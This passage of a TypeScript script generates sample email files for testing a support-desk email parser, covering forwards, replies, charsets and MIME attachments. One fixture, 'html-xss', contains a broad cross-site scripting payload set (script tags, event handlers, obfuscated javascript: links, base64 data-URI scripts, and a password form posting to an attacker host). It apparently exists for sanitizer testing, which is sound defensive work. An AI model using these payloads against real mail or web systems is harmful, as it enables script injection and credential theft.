    '<html><head><meta http-equiv="Content-Type" content="text/html; charset=us-ascii"><style type="text/css">p {margin:0}</style></head><body dir="ltr"><div style="font-family:Calibri">Please handle this one.</div><div>Tom</div><div id="appendonsend"></div><hr style="display:inline-block;width:98%" tabindex="-1"><div id="divRplyFwdMsg" dir="ltr"><font face="Calibri, sans-serif" style="font-size:11pt" color="#000000"><b>From:</b> Laura Jensen &lt;laura.jensen@example.dk&gt;<br><b>Sent:</b> Tuesday, March 26, 2024 10:12 AM<br><b>To:</b> Tom Baker &lt;tom.baker@acme.test&gt;<br><b>Subject:</b> Refund request #5521</font><div>&nbsp;</div></div><div>Hi Tom,<br>I would like a refund for order 5521, the box arrived damaged.<br>Laura</div></body></html>\n',
  ),
)}
--_000_AM0PR01MB5521FW_--
`,
  },
  {
    name: "forward-outlook-original-message",
    build: () => `From: Acme Destek <destek@acme.test>
To: support@acme.test
Subject: FW: Warranty claim
Date: Wed, 27 Mar 2024 08:30:00 +0100
Message-ID: <000a01da8012$aa11bb22$cc33dd44$@acme.test>
MIME-Version: 1.0
Content-Type: text/plain; charset="us-ascii"
Content-Transfer-Encoding: 7bit
X-Mailer: Microsoft Outlook 14.0

 

-----Original Message-----
From: Peter Novak [mailto:peter.novak@example.cz] 
Sent: Wednesday, March 27, 2024 8:01 AM
To: destek@acme.test
Subject: Warranty claim

Dear Sir or Madam,

my coffee machine (serial CM-2231) stopped heating after 3 months.

Regards,
Peter Novak
`,
  },
  {
    name: "forward-apple-mail",
    build: () => `From: Tom Baker <tom.baker@acme.test>
Content-Type: multipart/alternative;
	boundary="Apple-Mail=_5F3C1E2A-0B1D-4F2A-9C3E-8D7B6A5F4E3D"
Mime-Version: 1.0 (Mac OS X Mail 16.0 \\(3774.500.171.1.1\\))
Subject: Fwd: Broken screen
Date: Wed, 27 Mar 2024 14:10:00 +0100
To: support@acme.test
Message-Id: <A1B2C3D4-E5F6-4711-8899-AABBCCDDEEFF@acme.test>
X-Mailer: Apple Mail (2.3774.500.171.1.1)


--Apple-Mail=_5F3C1E2A-0B1D-4F2A-9C3E-8D7B6A5F4E3D
Content-Transfer-Encoding: quoted-printable
Content-Type: text/plain;
	charset=utf-8

${qp(
  utf8(
    "Customer says the screen broke on arrival.\n\n> Begin forwarded message:\n> \n> From: Hannah Schmidt <hannah.schmidt@example.de>\n> Subject: Broken screen\n> Date: 27. March 2024 at 14:03:11 CET\n> To: Tom Baker <tom.baker@acme.test>\n> \n> Hello, the tablet screen was cracked when I opened the box.\n> Hannah\n",
  ),
)}
--Apple-Mail=_5F3C1E2A-0B1D-4F2A-9C3E-8D7B6A5F4E3D
Content-Transfer-Encoding: quoted-printable
Content-Type: text/html;
	charset=utf-8

${qp(
  utf8(
    '<html><head><meta http-equiv="content-type" content="text/html; charset=utf-8"></head><body style="overflow-wrap: break-word;">Customer says the screen broke on arrival.<br id="lineBreakAtBeginningOfMessage"><div><br><blockquote type="cite"><div>Begin forwarded message:</div><br><div style="margin:0px"><span><b>From: </b></span><span>Hannah Schmidt &lt;hannah.schmidt@example.de&gt;<br></span></div><div><span><b>Subject: </b></span><span><b>Broken screen</b><br></span></div><div><span><b>Date: </b></span><span>27. March 2024 at 14:03:11 CET<br></span></div><div><span><b>To: </b></span><span>Tom Baker &lt;tom.baker@acme.test&gt;<br></span></div><br><div>Hello, the tablet screen was cracked when I opened the box.<br>Hannah</div></blockquote></div></body></html>\n',
  ),
)}
--Apple-Mail=_5F3C1E2A-0B1D-4F2A-9C3E-8D7B6A5F4E3D--
`,
  },
  {
    name: "forward-thunderbird-by-customer",
    build: () => `From: Olivia Brown <olivia.brown@example.co.uk>
To: support@acme.test
Subject: Fwd: Your receipt from Acme
Date: Thu, 28 Mar 2024 09:00:00 +0000
Message-ID: <5b3e2f1a-7c4d-4e8f-9a0b-1c2d3e4f5a6b@example.co.uk>
User-Agent: Mozilla Thunderbird
MIME-Version: 1.0
Content-Type: text/plain; charset=UTF-8; format=flowed
Content-Transfer-Encoding: 7bit

I was charged twice, see below.



-------- Forwarded Message --------
Subject: 	Your receipt from Acme
Date: 	Thu, 28 Mar 2024 08:00:00 +0000
From: 	Acme Billing <billing@acme.test>
To: 	olivia.brown@example.co.uk



Thanks for your purchase. Amount: GBP 49.00
`,
  },
  {
    name: "reply-in-reply-to",
    build: () => `From: Mehmet Demir <mehmet.demir@example.com>
To: Acme Support <support@acme.test>
Subject: Re: [#1001] Cannot log in to my account
Date: Mon, 4 Mar 2024 11:02:00 +0300
Message-ID: <CAF3k9x0QmZ+2@mail.example.com>
In-Reply-To: <ticket-1001-msg-2@acme.test>
References: <ticket-1001@acme.test> <ticket-1001-msg-2@acme.test>
MIME-Version: 1.0
Content-Type: multipart/alternative; boundary="000000000000reply0000001"

--000000000000reply0000001
Content-Type: text/plain; charset="UTF-8"

That worked, thank you!

On Mon, 4 Mar 2024 at 10:00, Acme Support <support@acme.test> wrote:

> Hi Mehmet,
>
> please try clearing your browser cookies and log in again.
>
> Acme Support
>

--000000000000reply0000001
Content-Type: text/html; charset="UTF-8"

<div dir="ltr">That worked, thank you!</div><br><div class="gmail_quote gmail_quote_container"><div dir="ltr" class="gmail_attr">On Mon, 4 Mar 2024 at 10:00, Acme Support &lt;<a href="mailto:support@acme.test">support@acme.test</a>&gt; wrote:<br></div><blockquote class="gmail_quote" style="margin:0px 0px 0px 0.8ex;border-left:1px solid rgb(204,204,204);padding-left:1ex">Hi Mehmet,<br><br>please try clearing your browser cookies and log in again.<br><br>Acme Support</blockquote></div>

--000000000000reply0000001--
`,
  },
  {
    name: "reply-references-only",
    build: () => `From: Mehmet Demir <mehmet.demir@example.com>
To: support@acme.test
Subject: Re: Cannot log in to my account
Date: Tue, 5 Mar 2024 09:00:00 +0300
Message-ID: <refs-only-1@mail.example.com>
References: <ticket-1001@acme.test>
	<ticket-1001-msg-2@acme.test> <CAF3k9x0QmZ+2@mail.example.com>
	<ticket-1001@acme.test>
Content-Type: text/plain; charset=utf-8

It stopped working again today.

> please try clearing your browser cookies and log in again.
> Acme Support
`,
  },
  {
    name: "reply-subject-token-only",
    build: () => `From: Nadia Petrova <nadia.petrova@example.bg>
To: support@acme.test
Subject: RE: [#1234] Printer on fire
Date: Wed, 6 Mar 2024 12:00:00 +0200
Message-ID: <VI1PR02MB1234RE@VI1PR02MB1234.eurprd02.prod.outlook.com>
MIME-Version: 1.0
Content-Type: text/plain; charset="utf-8"
Content-Transfer-Encoding: 8bit

The fire is out, but the printer still does not print.

Nadia

From: Acme Support <support@acme.test>
Sent: Wednesday, March 6, 2024 11:00 AM
To: Nadia Petrova <nadia.petrova@example.bg>
Subject: [#1234] Printer on fire

Please unplug the printer immediately.
`,
  },
  {
    name: "outlook-html-reply",
    build: () => `From: Nadia Petrova <nadia.petrova@example.bg>
To: support@acme.test
Subject: RE: [#2002] Delivery date
Date: Thu, 7 Mar 2024 12:00:00 +0200
Message-ID: <VI1PR02MB2002RE@VI1PR02MB2002.eurprd02.prod.outlook.com>
In-Reply-To: <ticket-2002-msg-1@acme.test>
MIME-Version: 1.0
Content-Type: text/html; charset="utf-8"
Content-Transfer-Encoding: quoted-printable

${qp(
  utf8(
    '<html><head><style>p.MsoNormal{margin:0}</style></head><body><div class="WordSection1"><p class="MsoNormal">Friday works for me.</p><p class="MsoNormal">Nadia</p><div style="border:none;border-top:solid #E1E1E1 1.0pt;padding:3.0pt 0in 0in 0in"><p class="MsoNormal"><b>From:</b> Acme Support &lt;support@acme.test&gt;<br><b>Sent:</b> Thursday, March 7, 2024 10:00 AM<br><b>To:</b> Nadia Petrova<br><b>Subject:</b> [#2002] Delivery date</p></div><p class="MsoNormal">Can we deliver on Friday?</p></div></body></html>\n',
  ),
)}`,
  },
  {
    name: "apple-mail-reply",
    build: () => `From: Hannah Schmidt <hannah.schmidt@example.de>
Content-Type: multipart/alternative; boundary="Apple-Mail=_reply-0001"
Mime-Version: 1.0
Subject: Re: [#2100] Replacement tablet
Date: Thu, 28 Mar 2024 18:00:00 +0100
In-Reply-To: <ticket-2100-msg-2@acme.test>
References: <ticket-2100@acme.test> <ticket-2100-msg-2@acme.test>
To: Acme Support <support@acme.test>
Message-Id: <B2C3D4E5-F6A7-4812-9900-112233445566@example.de>

--Apple-Mail=_reply-0001
Content-Transfer-Encoding: 7bit
Content-Type: text/plain; charset=us-ascii

Great, thanks a lot!

> On 28. Mar 2024, at 17:00, Acme Support <support@acme.test> wrote:
> 
> We will send a replacement tomorrow.

--Apple-Mail=_reply-0001
Content-Transfer-Encoding: 7bit
Content-Type: text/html; charset=us-ascii

<html><body>Great, thanks a lot!<br><div><br><blockquote type="cite"><div>On 28. Mar 2024, at 17:00, Acme Support &lt;support@acme.test&gt; wrote:</div><br><div><div>We will send a replacement tomorrow.</div></div></blockquote></div></body></html>
--Apple-Mail=_reply-0001--
`,
  },
  {
    name: "inline-reply-interleaved",
    build: () => `From: Victor Hugo <victor@example.org>
To: support@acme.test
Subject: Re: [#2200] A few questions
Date: Fri, 29 Mar 2024 09:00:00 +0100
Message-ID: <inline-reply-1@example.org>
In-Reply-To: <ticket-2200-msg-1@acme.test>
User-Agent: Mutt/2.2.12
Content-Type: text/plain; charset=us-ascii

On Thu, Mar 28, 2024 at 05:00:00PM +0000, Acme Support wrote:
> Which version are you using?

4.2.1

> Does it happen on Wi-Fi too?

Yes, on both.
`,
  },
  {
    name: "html-xss",
    build: () => `From: Mallory <mallory@evil.example>
To: support@acme.test
Subject: Please look at this
Date: Sat, 30 Mar 2024 00:00:00 +0000
Message-ID: <xss-1@evil.example>
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8

<html><head><title>SECRET TITLE</title><meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">
<style>body { background: url("javascript:alert(1)") } .a { color: red }</style>
<script>alert("script-in-head")</script></head>
<body onload="alert('body')">
<p onclick="alert('p')" style="color:red;background-image:url(https://evil.example/track.gif);position:fixed">Hello <b>agent</b>, please <a href="javascript:alert(1)">click here</a>.</p>
<p><a href="JaVaScRiPt&#58;alert(2)">obfuscated</a> <a href="jav&#x09;ascript:alert(3)">tabbed</a> <a href="https://ok.example.com/path?a=1&amp;b=2">safe link</a> <a href="mailto:help@example.com">mail</a></p>
<img src="x" onerror="alert('img')">
<img src="https://cdn.example.com/logo.png" alt="logo" onload="alert(4)">
<img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==" alt="pixel">
<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoNSk+PC9zdmc+" alt="svg">
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCg2KTwvc2NyaXB0Pg==">data link</a>
<iframe src="https://evil.example/frame">iframe fallback text</iframe>
<object data="https://evil.example/x.swf">object fallback</object><embed src="https://evil.example/x.swf">
<form action="https://evil.example/steal"><input name="password" type="password"><button formaction="https://evil.example/b">Send</button></form>
<svg onload="alert(7)"><circle r="10"></circle></svg>
<math><mi xlink:href="javascript:alert(8)">x</mi></math>
<table border="1"><tr><td style="width: expression(alert(9))">cell</td></tr></table>
<div style="behavior:url(x.htc)">behavior</div>
<scr<script>ipt>alert(10)</script>
</body></html>
`,
  },
  {
    name: "empty-body",
    build: () => `From: Quiet Person <quiet@example.com>
To: support@acme.test
Date: Sun, 31 Mar 2024 10:00:00 +0000
Message-ID: <empty-body-1@example.com>
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8

`,
  },
  {
    name: "huge-subject",
    build: () => {
      const words = Array.from({ length: 400 }, (_, i) => `word${i}`).join(" ");
      const subject = `Re: ${words} [#777]`;
      const folded = (subject.match(/.{1,70}(\s|$)/g) ?? [subject]).map((s) => s.trimEnd()).join("\n ");
      return `From: Verbose Customer <verbose@example.com>
To: support@acme.test
Subject: ${folded}
Date: Mon, 1 Apr 2024 10:00:00 +0000
Message-ID: <huge-subject-1@example.com>
Content-Type: text/plain; charset=utf-8

See subject.
`;
    },
  },
  {
    name: "8bit-no-charset-utf8",
    build: () => `From: Anna Becker <anna.becker@example.de>
To: support@acme.test
Subject: Lieferadresse
Date: Mon, 1 Apr 2024 11:00:00 +0200
Message-ID: <8bit-utf8-1@example.de>
MIME-Version: 1.0
Content-Type: text/plain
Content-Transfer-Encoding: 8bit

${l1(utf8("Grüße aus München — bitte an die Hauptstraße 5 liefern.\n"))}`,
  },
  {
    name: "8bit-no-charset-latin1",
    build: () => `From: Pierre Durand <pierre.durand@example.fr>
To: support@acme.test
Subject: Facture
Date: Mon, 1 Apr 2024 12:00:00 +0200
Message-ID: <8bit-latin-1@example.fr>
MIME-Version: 1.0
Content-Type: text/plain
Content-Transfer-Encoding: 8bit

${l1(cp1252("Bonjour, la facture n° 42 coûte 30 € mais j’ai payé 35 €. Très étrange…\n"))}`,
  },
  {
    name: "8bit-no-charset-turkish",
    build: () => `From: Hakan Kurt <hakan.kurt@example.com.tr>
To: destek@acme.test
Subject: ${l1(cp1254("Ödeme yapıldı ama sipariş yok"))}
Date: Mon, 1 Apr 2024 13:00:00 +0300
Message-ID: <8bit-tr-1@example.com.tr>

${l1(cp1254("Ödeme yaptım ama sipariş görünmüyor. Lütfen kontrol eder misiniz?\nHakan\n"))}`,
  },
  {
    name: "mislabelled-us-ascii",
    build: () => `From: Serkan Aksoy <serkan.aksoy@example.com.tr>
To: destek@acme.test
Subject: =?us-ascii?Q?Tesekkurler?=
Date: Tue, 2 Apr 2024 09:00:00 +0300
Message-ID: <mislabelled-1@example.com.tr>
MIME-Version: 1.0
Content-Type: text/plain; charset="us-ascii"
Content-Transfer-Encoding: 8bit

${l1(cp1254("Sorun çözüldü, teşekkürler. İyi çalışmalar!\n"))}`,
  },
  {
    name: "unknown-charset",
    build: () => `From: Legacy Client <legacy@example.com.tr>
To: destek@acme.test
Subject: Unknown charset label
Date: Tue, 2 Apr 2024 10:00:00 +0300
Message-ID: <unknown-charset-1@example.com.tr>
MIME-Version: 1.0
Content-Type: text/plain; charset="x-unknown"
Content-Transfer-Encoding: 8bit

${l1(cp1254("Şikâyetim var: ürün çalışmıyor.\n"))}`,
  },
  {
    name: "duplicate-to-cc",
    build: () => `From: Ali Veli <ali@example.com>
To: support@acme.test, Support Team <SUPPORT@acme.test>
To: sales@acme.test
Cc: sales@acme.test, "Ali Veli" <ali@example.com>, ali@EXAMPLE.com,
 undisclosed-recipients:;, "Ops" <ops@acme.test>
Subject: Duplicate recipients
Date: Tue, 2 Apr 2024 11:00:00 +0000
Message-ID: <dup-rcpt-1@example.com>
Content-Type: text/plain; charset=utf-8

Sent to everyone twice.
`,
  },
  {
    name: "auto-forwarded",
    build: () => `Delivered-To: support@acme.test
X-Forwarded-To: support@acme.test
X-Forwarded-For: info@acme-shop.test support@acme.test
Return-Path: <ben.carter@example.com>
From: Ben Carter <ben.carter@example.com>
To: info@acme-shop.test
Subject: Where is my parcel?
Date: Wed, 3 Apr 2024 08:00:00 +0000
Message-ID: <autofwd-1@example.com>
Content-Type: text/plain; charset=utf-8

I ordered a week ago and nothing has arrived.
`,
  },
  {
    name: "format-flowed",
    build: () => `From: Olivia Brown <olivia.brown@example.co.uk>
To: support@acme.test
Subject: Flowed text
Date: Wed, 3 Apr 2024 09:00:00 +0000
Message-ID: <flowed-1@example.co.uk>
User-Agent: Mozilla Thunderbird
MIME-Version: 1.0
Content-Type: text/plain; charset=UTF-8; format=flowed
Content-Transfer-Encoding: 7bit

This is a long paragraph that my mail client wrapped at seventy-two 
characters using format=flowed so it should be joined back into one 
line by the parser.

Second paragraph.
`,
  },
  {
    name: "attached-eml-message",
    build: () => `From: Grace Hopper <grace@example.org>
To: support@acme.test
Subject: The email I received from you
Date: Wed, 3 Apr 2024 10:00:00 +0000
Message-ID: <attached-eml-1@example.org>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="attached-eml-boundary"

--attached-eml-boundary
Content-Type: text/plain; charset=utf-8

See the attached message, the link in it does not work.

--attached-eml-boundary
Content-Type: message/rfc822; name="original.eml"
Content-Disposition: attachment; filename="original.eml"

From: Acme Support <support@acme.test>
To: grace@example.org
Subject: [#2300] Activate your account
Message-ID: <ticket-2300-msg-1@acme.test>
Date: Tue, 2 Apr 2024 10:00:00 +0000
Content-Type: text/plain; charset=utf-8

Click https://acme.test/activate/abc to activate.

--attached-eml-boundary--
`,
  },
  {
    name: "calendar-invite",
    build: () => `From: Robert Chen <robert.chen@corp.example.com>
To: support@acme.test
Subject: Invitation: Onboarding call @ Thu 4 Apr 2024 3pm
Date: Wed, 3 Apr 2024 11:00:00 -0700
Message-ID: <invite-1@corp.example.com>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="invite-mixed"

--invite-mixed
Content-Type: multipart/alternative; boundary="invite-alt"

--invite-alt
Content-Type: text/plain; charset=UTF-8

You have been invited to: Onboarding call

--invite-alt
Content-Type: text/calendar; charset=UTF-8; method=REQUEST

BEGIN:VCALENDAR
METHOD:REQUEST
BEGIN:VEVENT
UID:onboarding-1@corp.example.com
DTSTART:20240404T220000Z
SUMMARY:Onboarding call
END:VEVENT
END:VCALENDAR

--invite-alt--
--invite-mixed
Content-Type: application/ics; name="invite.ics"
Content-Disposition: attachment; filename="invite.ics"
Content-Transfer-Encoding: base64

${b64(utf8("BEGIN:VCALENDAR\nMETHOD:REQUEST\nBEGIN:VEVENT\nUID:onboarding-1@corp.example.com\nSUMMARY:Onboarding call\nEND:VEVENT\nEND:VCALENDAR\n"))}
--invite-mixed--
`,
  },
  {
    name: "read-receipt-mdn",
    build: () => `From: Daniel Novak <daniel.novak@corp.example.com>
To: support@acme.test
Subject: Read: [#1234] Your order has shipped
Date: Fri, 22 Mar 2024 09:30:00 +0000
Message-ID: <mdn-1@corp.example.com>
MIME-Version: 1.0
Content-Type: multipart/report; report-type=disposition-notification; boundary="mdn-boundary"

--mdn-boundary
Content-Type: text/plain; charset=utf-8

Your message was read on Friday, March 22, 2024 9:30:00 AM (UTC).

--mdn-boundary
Content-Type: message/disposition-notification

Reporting-UA: corp.example.com; Microsoft Outlook 16.0
Final-Recipient: rfc822; daniel.novak@corp.example.com
Original-Message-ID: <ticket-1234-msg-4@acme.test>
Disposition: manual-action/MDN-sent-manually; displayed

--mdn-boundary--
`,
  },
  {
    name: "nested-mixed-alt-related",
    build: () => `From: Sofia Rossi <sofia.rossi@example.it>
To: support@acme.test
Subject: Damaged package photos
Date: Thu, 4 Apr 2024 09:00:00 +0200
Message-ID: <DB9PR01MB9999NESTED@DB9PR01MB9999.eurprd01.prod.outlook.com>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="_005_DB9PR01MB9999_"

--_005_DB9PR01MB9999_
Content-Type: multipart/related; boundary="_004_DB9PR01MB9999_"; type="multipart/alternative"

--_004_DB9PR01MB9999_
Content-Type: multipart/alternative; boundary="_000_DB9PR01MB9999_"

--_000_DB9PR01MB9999_
Content-Type: text/plain; charset="iso-8859-1"
Content-Transfer-Encoding: quoted-printable

${qp(latin1("Buongiorno, il pacco è arrivato danneggiato. Foto qui sotto e fattura allegata.\n\nSofia\n"))}

--_000_DB9PR01MB9999_
Content-Type: text/html; charset="iso-8859-1"
Content-Transfer-Encoding: quoted-printable

${qp(latin1('<html><body><p>Buongiorno, il pacco è arrivato danneggiato.</p><p><img src="cid:image001.png@01DA8659.5E4C3A10" width="1" height="1" alt="foto"></p><p>Sofia</p></body></html>\n'))}

--_000_DB9PR01MB9999_--

--_004_DB9PR01MB9999_
Content-Type: image/png; name="image001.png"
Content-Description: image001.png
Content-Disposition: inline; filename="image001.png"; size=${PNG_1X1.length}
Content-ID: <image001.png@01DA8659.5E4C3A10>
Content-Transfer-Encoding: base64

${b64(PNG_1X1)}

--_004_DB9PR01MB9999_--

--_005_DB9PR01MB9999_
Content-Type: application/pdf; name="fattura.pdf"
Content-Disposition: attachment; filename="fattura.pdf"
Content-Transfer-Encoding: base64

${b64(PDF_INVOICE)}

--_005_DB9PR01MB9999_--
`,
  },
  {
    name: "inline-image-no-filename",
    build: () => `From: Lucas Martin <lucas.martin@example.fr>
To: support@acme.test
Subject: Logo only
Date: Thu, 4 Apr 2024 10:00:00 +0200
Message-ID: <inline-noname-1@example.fr>
MIME-Version: 1.0
Content-Type: multipart/related; boundary="rel-noname"

--rel-noname
Content-Type: text/html; charset=utf-8

<p>Our logo: <img src="cid:part1.ABCDEF@example.fr"></p>

--rel-noname
Content-Type: image/gif
Content-ID: <part1.ABCDEF@example.fr>
Content-Transfer-Encoding: base64

${b64(GIF_1X1)}
--rel-noname--
`,
  },
  {
    name: "lf-line-endings",
    lf: true,
    build: () => `From: Unix User <user@host.example.org>
To: support@acme.test
Subject: Sent from a script with LF line endings
Date: Thu, 4 Apr 2024 11:00:00 +0000
Message-ID: <lf-only-1@host.example.org>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="lf-boundary"

--lf-boundary
Content-Type: text/plain
Content-Transfer-Encoding: 8bit

${l1(cp1254("Dosya ekte. Teşekkürler.\n"))}
--lf-boundary
Content-Type: text/plain; name="log.txt"
Content-Disposition: attachment; filename="log.txt"

line 1
line 2
--lf-boundary--
`,
  },
  {
    name: "html-iso-8859-9-base64",
    build: () => `From: =?ISO-8859-9?B?${iso88599("Çağrı Şahin").toString("base64")}?= <cagri.sahin@example.com.tr>
To: destek@acme.test
Subject: =?ISO-8859-9?B?${iso88599("Ürün iadesi").toString("base64")}?=
Date: Thu, 4 Apr 2024 12:00:00 +0300
Message-ID: <html-latin5-1@example.com.tr>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="html-latin5"

--html-latin5
Content-Type: text/html; charset=ISO-8859-9
Content-Transfer-Encoding: base64

${b64(
  iso88599(
    '<html><head><meta http-equiv="Content-Type" content="text/html; charset=iso-8859-9"></head><body><p>Merhaba,</p><p>Ürünü <b>iade</b> etmek istiyorum. Kargo ücretini kim ödüyor?</p><p>Çağrı</p></body></html>',
  ),
)}
--html-latin5
Content-Type: image/png; name="kutu.png"
Content-Disposition: attachment; filename="kutu.png"
Content-Transfer-Encoding: base64

${b64(PNG_1X1)}
--html-latin5--
`,
  },
  {
    name: "forward-gmail-turkish",
    build: () => `From: =?UTF-8?B?QXnFn2UgS2F5YQ==?= <ayse.kaya@acme.test>
To: destek@acme.test
Subject: =?UTF-8?Q?Fwd:_=C4=B0ade?=
Date: Fri, 5 Apr 2024 10:00:00 +0300
Message-ID: <CAGmail-fwd-tr-1@mail.gmail.com>
MIME-Version: 1.0
Content-Type: text/plain; charset="UTF-8"
Content-Transfer-Encoding: 8bit

${l1(
  utf8(
    "---------- İletilen ileti ---------\nGönderen: Elif Arslan <elif.arslan@example.com.tr>\nDate: 5 Nis 2024 Cum, 09:12\nSubject: İade\nTo: <ayse.kaya@acme.test>\n\n\nÜrünü iade etmek istiyorum.\n",
  ),
)}`,
  },
];

// ---------------------------------------------------------------------------------------------

async function main(): Promise<void> {
  const dir = import.meta.dirname;
  const names = new Set<string>();
  for (const f of fixtures) {
    if (names.has(f.name)) throw new Error(`duplicate fixture ${f.name}`);
    names.add(f.name);
    const built = await f.build();
    let bytes: Buffer;
    if (Buffer.isBuffer(built)) {
      bytes = built;
    } else {
      for (let i = 0; i < built.length; i++) {
        if (built.charCodeAt(i) > 0xff) throw new Error(`${f.name}: non-byte character at ${i}; encode it first`);
      }
      bytes = Buffer.from(f.lf ? built : built.replace(/\r?\n/g, "\r\n"), "latin1");
    }
    if (bytes.length > 1024 * 1024) throw new Error(`${f.name}: fixtures must stay under 1 MiB`);
    writeFileSync(path.join(dir, `${f.name}.eml`), bytes);
  }
  console.log(`wrote ${fixtures.length} fixtures to ${dir}`);
}

await main();
